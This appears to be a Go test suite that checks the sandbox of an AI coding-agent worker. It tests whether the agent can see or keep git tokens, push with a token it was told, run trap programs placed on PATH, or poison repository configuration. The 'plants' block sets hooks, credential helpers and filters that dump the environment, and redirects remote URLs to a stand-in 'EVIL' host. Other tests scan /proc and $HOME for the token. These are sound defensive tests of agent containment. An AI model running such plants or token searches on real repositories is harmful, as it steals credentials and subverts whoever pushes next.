package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ai-coding-worker/ai-coding-worker/internal/agentproc/agenttest"
	"github.com/ai-coding-worker/ai-coding-worker/internal/agentproc/fsuid"
	"github.com/ai-coding-worker/ai-coding-worker/internal/githost"
)

// sample is the role of a process of the agent's that watches all others. Its first line of input is what it looks for in
// their arguments and environments; when the input ends it prints how many of git's processes it has seen, and how often the text.
func sample([]string) error {
	input := bufio.NewReader(os.Stdin)
	line, err := input.ReadString('\n')
	if err != nil {
		return err
	}
	over := make(chan struct{})
	go func() { _, _ = io.Copy(io.Discard, input); close(over) }()
	fmt.Fprintln(os.Stdout, "watching")
	seen, found := map[string]bool{}, map[string]bool{}
	for {
		select {
		case <-over:
			fmt.Fprintln(os.Stdout, len(seen), len(found))
			return nil
		default:
		}
		files, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, file := range files {
			arguments, _ := os.ReadFile(file)
			environment, _ := os.ReadFile(filepath.Join(filepath.Dir(file), "environ"))
			if bytes.Contains(arguments, []byte("git")) || bytes.Contains(arguments, []byte("agentproc-helper")) {
				seen[file] = true
			}
			if bytes.Contains(append(arguments, environment...), []byte(strings.TrimSpace(line))) {
				found[file] = true
			}
		}
	}
}

// watching runs f while a process of the agent's looks for a text in all other processes.
func watching(t *testing.T, text string, f func()) (seen, found int) {
	t.Helper()
	cmd := exec.Command("/proc/self/exe")
	cmd.Env = []string{"AICW_TEST_MAIN=sample"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: agenttest.UID, Gid: agenttest.UID}}
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cmd.Wait() }()
	defer stdin.Close()
	_, _ = io.WriteString(stdin, text+"\n")
	lines := bufio.NewScanner(stdout)
	lines.Scan()
	f()
	stdin.Close()
	lines.Scan()
	if _, err := fmt.Sscan(lines.Text(), &seen, &found); err != nil {
		t.Fatalf("%q: %v", lines.Text(), err)
	}
	return seen, found
}

// tokenInArguments watches a whole job from outside, and then a git that is given the token in its URL.
func tokenInArguments(t *testing.T) {
	host, repoURL := startGit(t)
	host.Fail("", githost.Fault{SlowBy: 50 * time.Millisecond}) // so that nothing is over too soon to be seen
	seen, found := watching(t, gitToken, func() {
		startWorker(t, env(t)).post(script("echo more > more.txt", "github", github(repoURL))).completed()
	})
	if seen < 3 || found > 0 {
		t.Errorf("in %d processes of git the token was seen %d times", seen, found)
	}
	_, found = watching(t, gitToken, func() {
		naive := exec.Command("git", "clone", "-q", strings.Replace(repoURL, "http://", "http://x:"+gitToken+"@", 1), filepath.Join(t.TempDir(), "naive"))
		if out, err := naive.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	})
	if found == 0 {
		t.Error("the control fails: nobody saw the token in git's arguments")
	}
}

// tokenInFiles looks through everything that the agent has, also after a clone with the token in the URL.
func tokenInFiles(t *testing.T) {
	_, repoURL := startGit(t)
	half := len(gitToken) / 2
	look := fmt.Sprintf(`first=%s second=%s; grep -rlF "$first$second" "$HOME" . ; echo looked;`, gitToken[:half], gitToken[half:]) // in one piece it would be redacted
	naive := `git clone -q "` + strings.Replace(repoURL, "http://", `http://x:$first$second@`, 1) + `" "$HOME/naive"; grep -rlF "$first$second" "$HOME"; rm -rf "$HOME/naive"`
	s := startWorker(t, env(t)).post(script(look+naive, "github", github(repoURL)))
	s.completed()
	before, after, _ := strings.Cut(s.String(), `"text":"looked"`)
	if strings.Contains(before, `/.git/config"`) || strings.Count(before, `"type":"output"`) > 0 {
		t.Errorf("the token is in the agent's files:\n%s", before)
	}
	if !strings.Contains(after, `/naive/.git/config"`) {
		t.Errorf("the control fails: the token is not in the naive clone\n%s", after)
	}
}

// pushOfItsOwn lets the agent push to the repository's own URL, first as it is, then with a token that it was told.
func pushOfItsOwn(t *testing.T) {
	host, repoURL := startGit(t)
	half := len(gitToken) / 2
	push := "echo more > more.txt; git add .; git commit -qm more; git push -q origin HEAD:refs/heads/theirs; git push -q --force origin HEAD:main; true"
	told := fmt.Sprintf(`first=%s second=%s; git remote set-url origin "%s"; `, gitToken[:half], gitToken[half:], strings.Replace(repoURL, "http://", "http://x:$first$second@", 1))
	for _, attempt := range []struct {
		script string
		pushed bool
	}{{push, false}, {told + push, true}} {
		before := git(t, host.Dir("acme/site"), "rev-parse", "main")
		startWorker(t, env(t)).post(script(attempt.script, "github", github(repoURL))).completed()
		branches := git(t, host.Dir("acme/site"), "for-each-ref", "--format=%(refname)")
		moved := git(t, host.Dir("acme/site"), "rev-parse", "main") != before
		if pushed := strings.Contains(branches, "theirs"); pushed != attempt.pushed || moved != attempt.pushed {
			t.Errorf("%q: pushed %t, main moved %t, want %t; the branches are\n%s", attempt.script, pushed, moved, attempt.pushed, branches)
		}
	}
}

// secretsInTheSession searches what is stored of a job whose agent holds no secret, and of one that has written it down.
func secretsInTheSession(t *testing.T) {
	_, repoURL := startGit(t)
	half := len(gitToken) / 2
	for writes, want := range map[string]bool{"echo nothing > note": false, fmt.Sprintf("printf %%s%%s %s %s > note", gitToken[:half], gitToken[half:]): true} {
		base := env(t)
		p := startWorker(t, base)
		p.post(script(writes, "github", github(repoURL))).completed()
		p.exited()
		searched, found := searchSnapshots(t, base["STORAGE_DIR"], gitToken)
		if searched != 1 || (len(found) > 0) != want {
			t.Errorf("%q: in %d snapshots: %v", writes, searched, found)
		}
	}
}

// printedSecrets prints secrets in every way that an agent can; those that are not the job's come through.
func printedSecrets(t *testing.T) {
	print := func(token string) *stream {
		_, repoURL := startGit(t)
		s := startWorker(t, env(t)).post(script(printing(token, token), "github", github(repoURL)))
		s.failed("provider_error")
		return s
	}
	if found := leaks(print(gitToken).raw.Bytes(), gitToken); len(found) > 0 {
		t.Error(found)
	}
	const unknown = "ghp_CANARYofNOBODY0123456789"
	if found := leaks(print(unknown).raw.Bytes(), unknown); len(found) < 6 {
		t.Errorf("the control fails: of a token that is nobody's only %v came through", found)
	}
}

// programsOfTheRepository puts programs with git's names where a careless PATH finds them.
func programsOfTheRepository(t *testing.T) {
	marks := agenttest.Dir(t)
	asAgent(t, func() error { return os.Chmod(marks, 0o777) }) //nolint:gosec // whoever runs a trap leaves a mark
	traps := fmt.Sprintf(`for name in git sh tar mkdir cat claude git-remote-http git-index-pack git-pack-objects git-add git-commit; do
		printf '#!/bin/sh\n/usr/bin/touch %s/$(/usr/bin/id -u)-%%s\nexec /usr/bin/%%s "$@"\n' $name $name > $name; /bin/chmod +x $name; done; `, marks)
	left := func() (names []string) {
		asAgent(t, func() error {
			entries, err := os.ReadDir(marks)
			for _, e := range entries {
				names = append(names, e.Name())
			}
			return err
		})
		return names
	}
	host, repoURL := startGit(t)
	last := startWorker(t, with(env(t), "PATH", ".:"+os.Getenv("PATH"))).post(script(traps, "github", github(repoURL))).completed()
	if got := left(); len(got) > 0 {
		t.Errorf("programs of the repository ran: %v", got)
	}
	if got := git(t, host.Dir("acme/site"), "show", last["branch"].(string)+":git"); !strings.HasPrefix(got, "#!") || last["pushed"] != true {
		t.Errorf("the work was not pushed: %v %q", last, got)
	}
	startWorker(t, env(t)).post(script(traps+"PATH=.:$PATH; git --version; sh -c true", "github", github(repoURL))).completed()
	if got := fmt.Sprint(left()); !strings.Contains(got, "10001-git") || !strings.Contains(got, "10001-sh") {
		t.Errorf("the control fails: where the folder is on the PATH there ran %v", got)
	}
}

// inheritedThings starts a worker with an open file and with core dumps; the control is a shell that is started as it is.
func inheritedThings(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("canary-in-a-file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	const open = `ulimit -c "$(ulimit -Hc)"; exec 7<"$0"; exec "$@"`
	// The script itself comes by descriptor 3, and the list of them by 4.
	const look = `echo files $(ls /proc/self/fd); cat <&7; echo core $(ulimit -c) $(ulimit -Hc); grep -E '^(Uid|Groups|Cap|NoNew)' /proc/self/status | tr '\t\n' ' ;'`
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	s := startCommand(t, env(t), "/bin/sh", "-c", open, secret, self).post(script(look))
	s.end()
	if got := s.String(); strings.Contains(got, "canary-in-a-file") || !strings.Contains(got, `"files 0 1 2 3 4"`) || !strings.Contains(got, `"core 0 0"`) {
		t.Errorf("the agent inherited something:\n%s", got)
	}
	const nothing = "0000000000000000"
	for _, want := range []string{"Uid: 10001 10001 10001 10001;", "CapPrm: " + nothing, "CapEff: " + nothing, "CapAmb: " + nothing, "NoNewPrivs: 1;"} {
		if got := s.String(); !strings.Contains(got, want) || strings.Contains(got, "Groups: 0") {
			t.Errorf("the agent is not %s:\n%s", want, got)
		}
	}
	out, err := exec.Command("/bin/sh", "-c", open, secret, "/bin/sh", "-c", look).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "canary-in-a-file") || strings.Contains(string(out), "core 0 0") || !strings.Contains(string(out), "NoNewPrivs: 0;") || strings.Contains(string(out), "CapEff: "+nothing) {
		t.Errorf("the control fails: %v\n%s", err, out)
	}
}

// plants are what makes git run something or go elsewhere, in a repository's own configuration; each trap appends who it runs
// as and what it sees to a file.
const plants = `
	sed "s|SEEN|$DIR/seen|" > "$DIR/trap" <<'END'
#!/bin/sh
{ echo "ran $(basename "$0") as $(id -u)."; env; } >> SEEN 2>/dev/null
[ "$1" = clean ] && exec cat
exit 0
END
	chmod 755 "$DIR/trap"; : > "$DIR/seen"; chmod 666 "$DIR/seen"; trap="$DIR/trap"
	mkdir -p .git/hooks
	for h in pre-commit commit-msg prepare-commit-msg post-commit pre-push post-checkout post-index-change reference-transaction pre-auto-gc; do ln -s "$trap" .git/hooks/$h; done
	git config core.fsmonitor "$trap"; git config core.hooksPath "$PWD/.git/hooks"; git config core.sshCommand "$trap"; git config core.alternateRefsCommand "$trap"
	git config core.editor "$trap"; git config gpg.program "$trap"; git config commit.gpgSign true; git config diff.external "$trap"
	git config credential.helper "$trap"; git config http.proxy "$EVIL"; git config "url.$EVIL/.insteadOf" "$ORIGIN"; git config "url.$EVIL/.pushInsteadOf" "$ORIGIN"
	git config remote.origin.pushurl "$EVIL/acme/site.git"; git config remote.origin.url "$EVIL/acme/site.git"
	git config filter.evil.clean "$trap clean"; printf '* filter=evil\n' > .gitattributes; echo more > more.txt`

// configurationOfTheRepository lets an agent set its repository against whoever commits and pushes there next.
func configurationOfTheRepository(t *testing.T) {
	host, repoURL := startGit(t)
	evil, err := githost.Start(githost.Config{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = evil.Close() })
	createRepo(t, evil, "acme/site", map[string]string{"README.md": "# Not the site\n"})
	dir := agenttest.Dir(t)
	asAgent(t, func() error { return os.Chmod(dir, 0o777) }) //nolint:gosec // whoever runs a trap leaves a mark
	setting := func(dir string) string {
		return fmt.Sprintf("DIR=%s EVIL=%s ORIGIN=%s\n", dir, evil.URL(), host.URL()) + plants
	}
	last := startWorker(t, env(t)).post(script(setting(dir)+"\n: > \"$DIR/seen\"", "github", github(repoURL))).completed()
	var seen []byte
	asAgent(t, func() error { seen, err = os.ReadFile(filepath.Join(dir, "seen")); return err })
	if got := string(seen); last["pushed"] != true || !strings.Contains(got, "ran trap as 10001.") || strings.Contains(got, "as 0.") ||
		strings.Contains(got, gitToken) || strings.Contains(got, "ran pre-") || strings.Contains(got, "ran post-") {
		t.Errorf("%v, and the repository's own programs:\n%s", last, got)
	}
	if got := evil.Requests(); len(got) > 0 {
		t.Errorf("the other host was asked: %+v", got)
	}
	if got := git(t, host.Dir("acme/site"), "show", last["branch"].(string)+":more.txt"); got != "more\n" {
		t.Errorf("more.txt: %q", got)
	}

	// The same repository, and a git that commits and pushes there as anywhere.
	dir = t.TempDir()
	naive := exec.Command("/bin/sh", "-c", `header="http.extraHeader=Authorization: Basic $(printf "x:$TOKEN" | base64 -w0)"
		git -c "$header" clone -q "$URL" "$CLONE" && cd "$CLONE" && git config user.name x && git config user.email x@example.com
		`+setting(dir)+`
		git config commit.gpgSign false; git add -A; git commit -qm more; git -c "$header" push -q origin HEAD:more`)
	naive.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "TOKEN=" + gitToken, "URL=" + repoURL, "CLONE=" + filepath.Join(dir, "clone")}
	out, _ := naive.CombinedOutput() // it fails: the other host has nothing for it
	seen, err = os.ReadFile(filepath.Join(dir, "seen"))
	told := slices.ContainsFunc(evil.Requests(), func(r githost.Request) bool { return r.Password == gitToken })
	if got := string(seen); err != nil || !strings.Contains(got, "ran pre-commit as 0.") || !strings.Contains(got, gitToken) || !told {
		t.Errorf("the control fails: the other host got the token %t, %v, %s\n%s", told, err, out, got)
	}
}

// programsOfTheSystem opens programs that others run for writing, and does not write.
func programsOfTheSystem(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	gitPath, err := exec.LookPath("git")
	if err != nil {
		t.Fatal(err)
	}
	mine := filepath.Join(agenttest.Dir(t), "mine")
	write := func(path string) error {
		return fsuid.Do(agenttest.UID, func() error {
			f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE, 0o600)
			if err != nil {
				return err
			}
			return f.Close()
		})
	}
	for _, path := range []string{self, gitPath, "/etc/ld.so.preload", "/etc/gitconfig", "/usr/bin/claude"} {
		if err := write(path); err == nil {
			t.Errorf("%s could be written", path)
		}
	}
	if err := write(mine); err != nil {
		t.Errorf("the control fails: %v", err)
	}
}
